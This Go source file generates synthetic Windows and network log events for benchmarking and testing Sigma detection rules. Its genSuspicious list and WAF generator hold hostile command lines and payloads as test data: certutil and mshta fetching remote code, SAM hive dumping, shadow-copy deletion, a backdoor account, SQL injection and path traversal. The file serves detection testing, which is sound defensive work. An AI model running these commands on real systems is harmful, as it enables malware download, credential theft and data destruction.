package sigma

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// eventGen builds a deterministic, realistic mix of events for benchmarks
// and index-soundness tests: Sysmon and Security/PowerShell Windows events
// as Windows-JSON (Sigma field names), and firewall, WAF, web, antivirus and
// IDS events as flat ECS maps, the way MCPSoc's parsers emit them.
type eventGen struct {
	r *rand.Rand
}

func newEventGen(seed uint64) *eventGen {
	return &eventGen{r: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))}
}

func (g *eventGen) pick(xs []string) string { return xs[g.r.IntN(len(xs))] }

var (
	genUsers   = []string{"alice", "bob", "carol", "dave", "svc_backup", "svc_sql", "Administrator"}
	genHosts   = []string{"WS-0142.corp.example", "WS-0977.corp.example", "SRV-FILE01.corp.example", "SRV-SQL02.corp.example", "DC01.corp.example"}
	genDomains = []string{"www.microsoft.com", "login.microsoftonline.com", "update.googleapis.com", "github.com", "cdn.jsdelivr.net", "intranet.corp.example", "files.corp.example", "api.slack.com"}
	genSysDir  = `C:\Windows\System32\`
	genBenign  = []struct{ image, desc, product, company, orig string }{
		{genSysDir + "svchost.exe", "Host Process for Windows Services", "Microsoft® Windows® Operating System", "Microsoft Corporation", "svchost.exe"},
		{genSysDir + "conhost.exe", "Console Window Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", "CONHOST.EXE"},
		{genSysDir + "RuntimeBroker.exe", "Runtime Broker", "Microsoft® Windows® Operating System", "Microsoft Corporation", "RuntimeBroker.exe"},
		{genSysDir + "taskhostw.exe", "Host Process for Windows Tasks", "Microsoft® Windows® Operating System", "Microsoft Corporation", "taskhostw.exe"},
		{genSysDir + "backgroundTaskHost.exe", "Background Task Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", "backgroundTaskHost.exe"},
		{genSysDir + "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host", "Windows® Search", "Microsoft Corporation", "SearchProtocolHost.exe"},
		{genSysDir + "dllhost.exe", "COM Surrogate", "Microsoft® Windows® Operating System", "Microsoft Corporation", "dllhost.exe"},
		{`C:\Program Files\Google\Chrome\Application\chrome.exe`, "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"},
		{`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, "Microsoft Edge", "Microsoft Edge", "Microsoft Corporation", "msedge.exe"},
		{`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, "Microsoft Outlook", "Microsoft Outlook", "Microsoft Corporation", "Outlook.exe"},
		{`C:\Program Files\Git\cmd\git.exe`, "Git for Windows", "Git", "The Git Development Community", "git.exe"},
		{`C:\Program Files\nodejs\node.exe`, "Node.js JavaScript Runtime", "Node.js", "Node.js", "node.exe"},
		{`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe`, "Antimalware Service Executable", "Microsoft® Windows® Operating System", "Microsoft Corporation", "MsMpEng.exe"},
		{genSysDir + "WindowsPowerShell\\v1.0\\powershell.exe", "Windows PowerShell", "Microsoft® Windows® Operating System", "Microsoft Corporation", "PowerShell.EXE"},
		{genSysDir + "cmd.exe", "Windows Command Processor", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Cmd.Exe"},
		{genSysDir + "wbem\\WmiPrvSE.exe", "WMI Provider Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Wmiprvse.exe"},
	}
	genSuspicious = []struct{ image, cmd, parent string }{
		{genSysDir + `WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`},
		{genSysDir + "certutil.exe", `certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\Users\Public\p.exe`, genSysDir + "cmd.exe"},
		{genSysDir + "rundll32.exe", `rundll32.exe C:\Users\bob\AppData\Local\Temp\x.dll,DllRegisterServer`, genSysDir + `WindowsPowerShell\v1.0\powershell.exe`},
		{genSysDir + "vssadmin.exe", `vssadmin.exe delete shadows /all /quiet`, genSysDir + "cmd.exe"},
		{genSysDir + "reg.exe", `reg.exe save HKLM\SAM C:\Windows\Temp\sam.save`, genSysDir + "cmd.exe"},
		{genSysDir + "schtasks.exe", `schtasks /create /sc minute /mo 5 /tn Updater /tr C:\Users\Public\u.exe`, genSysDir + "cmd.exe"},
		{genSysDir + "whoami.exe", `whoami /priv`, genSysDir + "cmd.exe"},
		{genSysDir + "net.exe", `net user backdoor P@ssw0rd! /add`, genSysDir + "cmd.exe"},
		{genSysDir + "wbem\\WMIC.exe", `wmic process call create "cmd.exe /c calc.exe"`, `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`},
		{genSysDir + "mshta.exe", `mshta.exe vbscript:Close(Execute("GetObject(""script:http://198.51.100.4/a.sct"")"))`, `C:\Windows\explorer.exe`},
	}
)

func (g *eventGen) guid() string {
	return fmt.Sprintf("{%08x-%04x-%04x-%04x-%012x}", g.r.Uint32(), g.r.Uint32()&0xffff, g.r.Uint32()&0xffff, g.r.Uint32()&0xffff, g.r.Uint64()&0xffffffffffff)
}

func (g *eventGen) hex(n int) string {
	const digits = "0123456789ABCDEF"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[g.r.IntN(16)]
	}
	return string(b)
}

func (g *eventGen) ip(private bool) string {
	if private {
		return fmt.Sprintf("10.%d.%d.%d", g.r.IntN(32), g.r.IntN(256), 1+g.r.IntN(254))
	}
	return fmt.Sprintf("%d.%d.%d.%d", 23+g.r.IntN(180), g.r.IntN(256), g.r.IntN(256), 1+g.r.IntN(254))
}

func (g *eventGen) userDir() string { return `C:\Users\` + g.pick(genUsers[:4]) }

func (g *eventGen) benignCmd(image string) string {
	base := image[strings.LastIndexByte(image, '\\')+1:]
	switch strings.ToLower(base) {
	case "svchost.exe":
		return image + " -k " + g.pick([]string{"netsvcs -p -s Schedule", "LocalServiceNetworkRestricted -p", "DcomLaunch -p", "UnistackSvcGroup", "wsappx -p -s AppXSvc"})
	case "chrome.exe", "msedge.exe":
		return `"` + image + `" --type=renderer --lang=en-US --renderer-client-id=` + fmt.Sprint(g.r.IntN(500)) + ` --field-trial-handle=` + g.hex(8) + ` /prefetch:1`
	case "git.exe":
		return `git.exe ` + g.pick([]string{"status --porcelain", "fetch origin", "log --oneline -n 20", "diff HEAD~1"})
	case "node.exe":
		return `node.exe ` + g.userDir() + `\src\app\node_modules\.bin\` + g.pick([]string{"tsc", "eslint", "jest"}) + " --watch"
	case "powershell.exe":
		return `powershell.exe -NoProfile -File C:\ProgramData\Scripts\inventory.ps1 -Computer ` + g.pick(genHosts)
	case "cmd.exe":
		return `C:\Windows\system32\cmd.exe /c "` + g.pick([]string{"echo %PATH%", "dir " + g.userDir() + `\Documents`, "type nul > lock.tmp", "npm run build"}) + `"`
	case "conhost.exe":
		return `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`
	}
	return `"` + image + `"`
}

func (g *eventGen) base(id int64, channel string) map[string]any {
	m := map[string]any{
		"EventID":     id,
		"Channel":     channel,
		"Computer":    g.pick(genHosts),
		"UtcTime":     fmt.Sprintf("2026-11-21 %02d:%02d:%02d.%03d", g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.r.IntN(1000)),
		"ProcessGuid": g.guid(),
		"ProcessId":   int64(1000 + g.r.IntN(30000)),
	}
	if strings.HasPrefix(channel, "Microsoft-Windows-Sysmon") {
		m["Provider_Name"] = "Microsoft-Windows-Sysmon"
	}
	return m
}

const sysmonChannel = "Microsoft-Windows-Sysmon/Operational"

func (g *eventGen) processCreation() map[string]any {
	m := g.base(1, sysmonChannel)
	b := genBenign[g.r.IntN(len(genBenign))]
	p := genBenign[g.r.IntN(len(genBenign))]
	image, cmd, parent := b.image, g.benignCmd(b.image), p.image
	if g.r.IntN(100) == 0 {
		s := genSuspicious[g.r.IntN(len(genSuspicious))]
		image, cmd, parent = s.image, s.cmd, s.parent
	}
	m["Image"] = image
	m["CommandLine"] = cmd
	m["ParentImage"] = parent
	m["ParentCommandLine"] = g.benignCmd(parent)
	m["Description"] = b.desc
	m["Product"] = b.product
	m["Company"] = b.company
	m["OriginalFileName"] = b.orig
	m["FileVersion"] = "10.0.22621.1 (WinBuild.160101.0800)"
	m["CurrentDirectory"] = g.pick([]string{genSysDir, g.userDir() + `\`, `C:\Windows\`})
	m["User"] = "CORP\\" + g.pick(genUsers)
	m["LogonId"] = "0x" + g.hex(6)
	m["IntegrityLevel"] = g.pick([]string{"Medium", "High", "System"})
	m["Hashes"] = "SHA1=" + g.hex(40) + ",MD5=" + g.hex(32) + ",SHA256=" + g.hex(64) + ",IMPHASH=" + g.hex(32)
	m["ParentProcessGuid"] = g.guid()
	m["ParentProcessId"] = int64(500 + g.r.IntN(20000))
	m["ParentUser"] = "CORP\\" + g.pick(genUsers)
	return m
}

func (g *eventGen) securityProcess() map[string]any {
	m := g.base(4688, "Security")
	pc := g.processCreation()
	m["NewProcessName"] = pc["Image"]
	m["CommandLine"] = pc["CommandLine"]
	m["ParentProcessName"] = pc["ParentImage"]
	m["SubjectUserName"] = g.pick(genUsers)
	m["SubjectDomainName"] = "CORP"
	m["TokenElevationType"] = "%%1936"
	m["MandatoryLabel"] = "S-1-16-8192"
	return m
}

func (g *eventGen) networkConnection() map[string]any {
	m := g.base(3, sysmonChannel)
	m["Image"] = genBenign[g.r.IntN(len(genBenign))].image
	m["User"] = "CORP\\" + g.pick(genUsers)
	m["Protocol"] = "tcp"
	m["Initiated"] = "true"
	m["SourceIp"] = g.ip(true)
	m["SourceHostname"] = g.pick(genHosts)
	m["SourcePort"] = int64(49152 + g.r.IntN(16000))
	m["DestinationIp"] = g.ip(g.r.IntN(3) == 0)
	m["DestinationHostname"] = g.pick(genDomains)
	m["DestinationPort"] = int64([]int{443, 443, 443, 80, 445, 53, 3389, 8080}[g.r.IntN(8)])
	m["DestinationIsIpv6"] = "false"
	return m
}

func (g *eventGen) fileEvent() map[string]any {
	m := g.base(11, sysmonChannel)
	m["Image"] = genBenign[g.r.IntN(len(genBenign))].image
	m["TargetFilename"] = g.userDir() + g.pick([]string{`\AppData\Local\Temp\`, `\Downloads\`, `\AppData\Roaming\Microsoft\Windows\Recent\`, `\Documents\`}) + g.pick([]string{"report", "setup", "tmp" + g.hex(4), "invoice", "notes"}) + g.pick([]string{".docx", ".tmp", ".lnk", ".exe", ".zip", ".pdf"})
	m["CreationUtcTime"] = m["UtcTime"]
	m["User"] = "CORP\\" + g.pick(genUsers)
	return m
}

func (g *eventGen) registrySet() map[string]any {
	m := g.base(13, sysmonChannel)
	m["EventType"] = "SetValue"
	m["Image"] = genBenign[g.r.IntN(len(genBenign))].image
	m["TargetObject"] = g.pick([]string{
		`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDrive`,
		`HKU\S-1-5-21-1004336348-1177238915-682003330-1001\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx`,
		`HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1004336348-1177238915-682003330-1001\` + g.hex(6),
		`HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated`,
	})
	m["Details"] = g.pick([]string{"DWORD (0x00000001)", `"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background`, "Binary Data", "QWORD (0x01db3c22-0x5b1f8d40)"})
	return m
}

func (g *eventGen) imageLoad() map[string]any {
	m := g.base(7, sysmonChannel)
	m["Image"] = genBenign[g.r.IntN(len(genBenign))].image
	m["ImageLoaded"] = genSysDir + g.pick([]string{"ntdll.dll", "kernel32.dll", "KernelBase.dll", "combase.dll", "bcrypt.dll", "winhttp.dll", "amsi.dll", "clr.dll"})
	m["Signed"] = "true"
	m["Signature"] = "Microsoft Windows"
	m["SignatureStatus"] = "Valid"
	m["Hashes"] = "SHA256=" + g.hex(64)
	return m
}

func (g *eventGen) dnsQuery() map[string]any {
	m := g.base(22, sysmonChannel)
	m["Image"] = genBenign[g.r.IntN(len(genBenign))].image
	m["QueryName"] = g.pick(genDomains)
	m["QueryStatus"] = "0"
	m["QueryResults"] = "type:  5 " + g.pick(genDomains) + ";::ffff:" + g.ip(false) + ";"
	return m
}

func (g *eventGen) psScript() map[string]any {
	m := g.base(4104, "Microsoft-Windows-PowerShell/Operational")
	m["ScriptBlockText"] = g.pick([]string{
		"Get-ChildItem -Path C:\\ProgramData\\Scripts -Filter *.log | Remove-Item -Force",
		"$s = Get-Service -Name Spooler; if ($s.Status -ne 'Running') { Start-Service Spooler }",
		"Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv users.csv",
		"[System.Net.ServicePointManager]::SecurityProtocol = 'Tls12'; Invoke-RestMethod -Uri https://intranet.corp.example/api/health",
	})
	m["ScriptBlockId"] = g.guid()
	m["Path"] = `C:\ProgramData\Scripts\maint.ps1`
	return m
}

func (g *eventGen) logon() map[string]any {
	m := g.base(4624, "Security")
	m["TargetUserName"] = g.pick(genUsers)
	m["TargetDomainName"] = "CORP"
	m["LogonType"] = int64([]int{2, 3, 3, 3, 10, 5}[g.r.IntN(6)])
	m["IpAddress"] = g.ip(true)
	m["WorkstationName"] = strings.Split(g.pick(genHosts), ".")[0]
	m["AuthenticationPackageName"] = g.pick([]string{"Kerberos", "NTLM", "Negotiate"})
	m["LogonProcessName"] = "User32"
	return m
}

func (g *eventGen) firewall() map[string]any {
	return map[string]any{
		"event.module": "pfsense", "event.dataset": "pfsense.filterlog", "event.category": "network",
		"event.action": g.pick([]string{"block", "pass", "pass", "pass"}),
		"source.ip":    g.ip(g.r.IntN(2) == 0), "destination.ip": g.ip(g.r.IntN(2) == 0),
		"source.port": int64(1024 + g.r.IntN(60000)), "destination.port": int64([]int{22, 23, 80, 443, 445, 3389, 53, 21}[g.r.IntN(8)]),
		"network.transport": g.pick([]string{"tcp", "udp"}), "observer.ingress.interface.name": "igb0",
		"message": "filterlog: 5,,,1000000103,igb0,match,block,in,4,0x0,,64,0,0,DF,6,tcp,60",
	}
}

func (g *eventGen) waf() map[string]any {
	uri := g.pick([]string{"/index.php?id=1", "/api/v1/items?page=2", "/login", "/wp-login.php", "/search?q=shoes", "/static/app.js", "/.env", "/cgi-bin/test.cgi"})
	if g.r.IntN(50) == 0 {
		uri = g.pick([]string{"/index.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", "/?q=<script>alert(1)</script>", "/download?file=../../../../etc/passwd"})
	}
	return map[string]any{
		"event.module": "modsecurity", "event.dataset": "modsec.audit", "event.category": "web",
		"source.ip": g.ip(false), "url.original": uri, "url.path": strings.SplitN(uri, "?", 2)[0],
		"http.request.method":       g.pick([]string{"GET", "GET", "POST"}),
		"user_agent.original":       g.pick([]string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36", "curl/8.5.0", "python-requests/2.32.3", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"}),
		"http.response.status_code": int64([]int{200, 200, 301, 403, 404}[g.r.IntN(5)]),
		"rule.id":                   fmt.Sprint(920000 + g.r.IntN(30000)), "rule.message": "Inbound Anomaly Score Exceeded",
		"message": "ModSecurity: Access denied with code 403 (phase 2).",
	}
}

func (g *eventGen) antivirus() map[string]any {
	return map[string]any{
		"event.module": "clamav", "event.dataset": "clamav.log", "event.category": "malware",
		"file.path": "/srv/uploads/" + g.hex(8) + g.pick([]string{".pdf", ".zip", ".exe", ".docm"}),
		"rule.name": g.pick([]string{"Win.Test.EICAR_HDB-1", "Doc.Downloader.Emotet-7580152-0", "Win.Trojan.Agent-1234567", "PUA.Win.Packer.Upx-1"}),
		"host.name": "files01", "message": "FOUND",
	}
}

func (g *eventGen) ids() map[string]any {
	return map[string]any{
		"event.module": "suricata", "event.dataset": "suricata.eve", "event.category": "intrusion_detection",
		"source.ip": g.ip(false), "destination.ip": g.ip(true), "destination.port": int64(443),
		"rule.name":     g.pick([]string{"ET SCAN Suspicious inbound to MSSQL port 1433", "ET POLICY curl User-Agent Outbound", "ET INFO Observed DNS Query to .cloud TLD"}),
		"rule.category": "Attempted Information Leak", "event.severity": int64(2), "network.protocol": "tls",
	}
}

// windows returns only Windows events; network only ECS events; mixed both
// (70/30).
func (g *eventGen) windows() map[string]any {
	switch n := g.r.IntN(100); {
	case n < 45:
		return g.processCreation()
	case n < 52:
		return g.securityProcess()
	case n < 64:
		return g.networkConnection()
	case n < 75:
		return g.fileEvent()
	case n < 84:
		return g.registrySet()
	case n < 90:
		return g.imageLoad()
	case n < 94:
		return g.dnsQuery()
	case n < 97:
		return g.psScript()
	default:
		return g.logon()
	}
}

func (g *eventGen) network() map[string]any {
	switch n := g.r.IntN(100); {
	case n < 45:
		return g.firewall()
	case n < 75:
		return g.waf()
	case n < 85:
		return g.antivirus()
	default:
		return g.ids()
	}
}

func (g *eventGen) mixed() map[string]any {
	if g.r.IntN(10) < 7 {
		return g.windows()
	}
	return g.network()
}

func genEvents(n int, seed uint64, kind func(*eventGen) map[string]any) []map[string]any {
	g := newEventGen(seed)
	out := make([]map[string]any, n)
	for i := range out {
		out[i] = kind(g)
	}
	return out
}
